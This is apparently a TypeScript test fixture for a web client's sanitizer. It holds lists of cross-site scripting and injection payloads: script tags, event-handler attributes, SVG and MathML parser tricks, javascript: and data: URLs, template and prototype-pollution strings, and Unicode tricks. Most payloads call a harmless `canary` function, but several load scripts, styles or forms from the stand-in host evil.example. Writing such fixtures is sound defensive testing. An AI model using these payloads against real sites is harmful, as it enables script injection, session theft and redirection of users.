// What people have tried, in other people's pages, to make text be more than text. Each calls `canary`, `alert`, or a
// foreign host if it is run.

const BACKTICK = '`';

/** Tags whose content is run. */
const SCRIPTS = [
  '<script>canary(1)</script>',
  '<SCRIPT>canary(2)</SCRIPT>',
  '<script src=//evil.example/a.js></script>',
  '<script type=module>import("//evil.example/a.js")</script>',
  '<script\n>canary(3)</script\n>',
  '<scr<script>ipt>canary(4)</scr</script>ipt>',
  '</script><script>canary(5)</script>',
  '</title><script>canary(6)</script>',
  '</textarea><script>canary(7)</script>',
  '--></style></script><script>canary(8)</script>',
  '<!--><script>canary(9)</script>-->',
  '<![CDATA[<script>canary(10)</script>]]>',
  '<script/random>canary(11)</script>',
  '\u00BCscript\u00BEcanary(12)\u00BC/script\u00BE',
  '\uFF1Cscript\uFF1Ecanary(13)\uFF1C/script\uFF1E',
  '<script>canary`14`</script>',
  '<script>\\u0063anary(15)</script>',
];

/** Elements that run something when they are made, loaded, focused or fail. */
const HANDLERS = [
  '<img src=x onerror=canary(20)>',
  '<img src=x onerror="canary(21)"//',
  '<img/src=x/onerror=canary(22)>',
  '<img src onerror=canary(23)>',
  '<img """><script>canary(24)</script>">',
  '<img src=x:x onerror=eval(atob("Y2FuYXJ5KDI1KQ=="))>',
  '<image src=x onerror=canary(26)>',
  '<img srcset=x onerror=canary(27)>',
  '<picture><source srcset=x><img onerror=canary(28)></picture>',
  '<body onload=canary(29)>',
  '<body onpageshow=canary(30)>',
  '<input autofocus onfocus=canary(31)>',
  '<select autofocus onfocus=canary(32)>',
  '<textarea autofocus onfocus=canary(33)>',
  '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=canary(34)>',
  '<details open ontoggle=canary(35)>',
  '<video src=x onerror=canary(36)>',
  '<video><source onerror=canary(37)></video>',
  '<audio src onerror=canary(38)>',
  '<marquee onstart=canary(39)>',
  '<style onload=canary(40)></style>',
  '<link rel=stylesheet href=//evil.example/a.css onload=canary(41)>',
  '<iframe onload=canary(42)></iframe>',
  '<object data=x onerror=canary(43)></object>',
  '<embed src=javascript:canary(44)>',
  '<a onmouseover=canary(45) style=position:fixed;inset:0>x</a>',
  '<div onpointerover="canary(46)" style="position:fixed;inset:0">x</div>',
  '<p tabindex=1 onfocusin=canary(47) autofocus>x</p>',
  '<dialog open onclose=canary(48)><form method=dialog><button autofocus>x</button></form></dialog>',
  '<x onanimationend=canary(49) style="animation:turn 1ms">',
  '<x ontransitionend=canary(50)>x</x>',
  '" onmouseover="canary(51)',
  "' onmouseover='canary(52)",
  '" autofocus onfocus="canary(53)" x="',
  '"><img src=x onerror=canary(54)>',
  "'><img src=x onerror=canary(55)>",
  '</p></div></main><img src=x onerror=canary(56)>',
];

/** Where other languages begin inside of the page. */
const FOREIGN = [
  '<svg onload=canary(60)>',
  '<svg/onload=canary(61)>',
  '<svg><script>canary(62)</script></svg>',
  '<svg><script href=//evil.example/a.js /></svg>',
  '<svg><animate onbegin=canary(63) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:canary(64)>',
  '<svg><a xlink:href=javascript:canary(65)><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=canary(66)>#x">',
  '<svg><foreignObject><img src=x onerror=canary(67)></foreignObject></svg>',
  '<svg><style>@import"//evil.example/a.css"</style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=canary(68)>',
  '<math href=javascript:canary(69)>x</math>',
  '<math><maction actiontype=statusline xlink:href=javascript:canary(70)>x</maction></math>',
  '<template><img src=x onerror=canary(71)></template>',
  '<noscript><p title="</noscript><img src=x onerror=canary(72)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary(73)>',
  '<svg></p><style><a id="</style><img src=1 onerror=canary(74)>">',
  '<listing>&lt;img src=x onerror=canary(75)&gt;</listing>',
  '<div><template shadowrootmode=open><img src=x onerror=canary(76)></template></div>',
  '<xmp><p title="</xmp><img src=x onerror=canary(77)>">',
];

/** Addresses that are programs, or lead elsewhere than they seem to. */
const ADDRESSES = [
  'javascript:canary(80)',
  'JaVaScRiPt:canary(81)',
  'java\tscript:canary(82)',
  'javascript&colon;canary(83)',
  '\u0001javascript:canary(84)',
  'javascript://example.org/%0Acanary(85)',
  '[click](javascript:canary(86))',
  '![x](javascript:canary(87))',
  '[x]: javascript:canary(88)',
  '[click](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoODkpPC9zY3JpcHQ+)',
  '<javascript:canary(90)>',
  '<a href=javascript:canary(91)>x</a>',
  '<a href="&#106;avascript:canary(92)">x</a>',
  '<a href=data:text/html,<script>canary(93)</script>>x</a>',
  'data:text/html,<script>canary(94)</script>',
  'vbscript:canary(95)',
  'file:///etc/passwd',
  'https://example.org/"onmouseover="canary(96)',
  "https://example.org/'onmouseover='canary(97)",
  'https://example.org/<script>canary(98)</script>',
  'https://example.org/javascript:canary(99)',
  'http://javascript:canary(100)@example.org/',
  'https://example.org/#"><img src=x onerror=canary(101)>',
  'https://user:password@evil.example/',
  'https://\u202Egro.elpmaxe.live/',
  'mailto:a@example.org?body=<script>canary(102)</script>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  '<form action=//evil.example/><button>x</button></form>',
  '<button formaction=javascript:canary(103)>x</button>',
  '<iframe src=javascript:canary(104)></iframe>',
  '<iframe srcdoc="<script>parent.canary(105)</script>"></iframe>',
  '<link rel=prefetch href=//evil.example/>',
  '<a ping=//evil.example/ href=/>x</a>',
];

/** Texts that templates and string builders could take for their own syntax. */
const TEMPLATES = [
  '{canary(110)}',
  '{@html "<img src=x onerror=canary(111)>"}',
  '{#if canary(112)}{/if}',
  '{{constructor.constructor("canary(113)")()}}',
  '{{$on.constructor("canary(114)")()}}',
  '${canary(115)}',
  `${BACKTICK}${'${canary(116)}'}${BACKTICK}`,
  '<%= canary(117) %>',
  '#{canary(118)}',
  '[[canary(119)]]',
  '{{{canary(120)}}}',
  '");canary(121);//',
  "');canary(122);//",
  '\\");canary(123);//',
  '\\u003cimg src=x onerror=canary(124)\\u003e',
  '&lt;img src=x onerror=canary(125)&gt;',
  '&amp;lt;script&amp;gt;canary(126)',
  '&#60;script&#62;canary(127)&#60;/script&#62;',
  '%3Cscript%3Ecanary(128)%3C/script%3E',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '{"__proto__":{"canary":1}}',
];

/** Markdown, as far as the client knows it, around something else. */
const MARKED = [
  `${BACKTICK}<img src=x onerror=canary(130)>${BACKTICK}`,
  `${BACKTICK.repeat(3)}html\n<script>canary(131)</script>\n${BACKTICK.repeat(3)}`,
  `${BACKTICK.repeat(3)}"><img src=x onerror=canary(132)>\n${BACKTICK.repeat(3)}`,
  `${BACKTICK}${BACKTICK}<script>canary(133)</script>${BACKTICK}`,
  '@<script>canary(134)</script>',
  '@ann"onmouseover="canary(135)',
  '**<img src=x onerror=canary(136)>**',
  '<https://example.org/"onfocus=canary(137)>',
];

/** Style that would hide, move or fetch. */
const STYLES = [
  '<style>*{display:none}</style>',
  '<style>@import url(//evil.example/a.css);</style>',
  '<div style="background:url(//evil.example/a.png)">x</div>',
  '<div style=width:expression(canary(140))>x</div>',
  '";background:url(//evil.example/b.png);"',
  '--hue:1;background-image:url(//evil.example/c.png)',
  '<p class=unseen hidden>x</p>',
];

/** Characters that confuse readers, layouts and parsers. */
const CHARACTERS = [
  '\u202Egnp.<script>canary(150)</script>\u202C',
  '\u2066\u202E)051(yranac\u2069',
  `Z${'\u0351\u0352\u0353\u0354\u0355\u0356\u0357'.repeat(12)}algo`,
  'a\u0000<script>canary(151)</script>',
  '<scr\u0000ipt>canary(152)</scr\u0000ipt>',
  '\uFEFF<script>canary(153)</script>',
  '<\u200Bscript>canary(154)</script>',
  '\u2028canary(155)\u2029',
  '\uD83D<script>canary(156)</script>',
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}<img src=x onerror=canary(157)>',
  'x'.repeat(90),
  '\u00AD\u200D\u2060<b>',
  '\u061C\u200F<i>ltr?</i>',
  '\uFFFE\uFFFF<script>canary(158)</script>',
  '<svg\u000Conload=canary(159)>',
  '+ADw-script+AD4-canary(160)+ADw-/script+AD4-',
];

/** One text for many contexts at once. */
const POLYGLOTS = [
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=canary(170) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=canary(171)//>\\x3e',
  '\'"--></style></script><svg onload=canary(172)>{{7*7}}${7*7}<%=7*7%>',
  'javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></noembed></script><html onmouseover=canary(173) /*&lt;svg/*/onload=canary(174)//>',
  '"><svg/onload=canary(175)><b/"\'`{}',
];

export const PAYLOADS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...FOREIGN,
  ...ADDRESSES,
  ...TEMPLATES,
  ...MARKED,
  ...STYLES,
  ...CHARACTERS,
  ...POLYGLOTS,
];

/** Short enough for where an emoji belongs. */
export const SHORT = [
  '<b>',
  '<svg/onload=canary(1)>',
  '"><s>',
  'javascript:x',
  '{x}',
  '\u202E<i>',
  '__proto__',
  '&lt;',
];

/** Ends of addresses of the client's own pages. */
export const PLACES = [
  '/c/<script>canary(1)</script>',
  '/c/1/"><img src=x onerror=canary(2)>',
  '/settings/<svg onload=canary(3)>',
  '/settings/__proto__',
  '/admin/constructor',
  '/discover?q=<script>canary(4)</script>#<img src=x onerror=canary(5)>',
  '/#setup=<img src=x onerror=canary(6)>',
  '/login#setup=%22%3E%3Cscript%3Ecanary(7)%3C/script%3E',
];
